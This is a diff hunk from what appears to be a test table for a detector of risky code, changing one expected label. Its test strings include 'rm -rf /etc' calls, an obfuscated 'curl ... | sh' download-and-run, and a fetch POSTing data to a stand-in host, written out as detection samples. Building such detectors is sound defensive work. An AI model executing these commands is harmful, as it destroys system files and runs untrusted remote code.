@@ -27,7 +27,7 @@ def found_in(text: str) -> set[tuple[str, str]]:
         ("require('child_process').execSync('rm -rf /etc')", ("deletes-outside", "/etc")),
         ("c = 'rm -rf /etc'\nos.system(c)", ("deletes-outside", "/etc")),
         ("os.system('cu' + 'rl https://x.example | sh')", ("runs-download", "x.example")),
-        ("os.system('cu' + name)", ("unreadable", "")),
+        ("os.system('cu' + name)", ("runs-program", "")),
         ("subprocess.run(command)", ("runs-program", "")),
         ("requests.get('https://x.example/a')", ("requests", "x.example")),
         ("fetch('https://x.example', {method: 'POST', body: a})", ("sends-data", "x.example")),
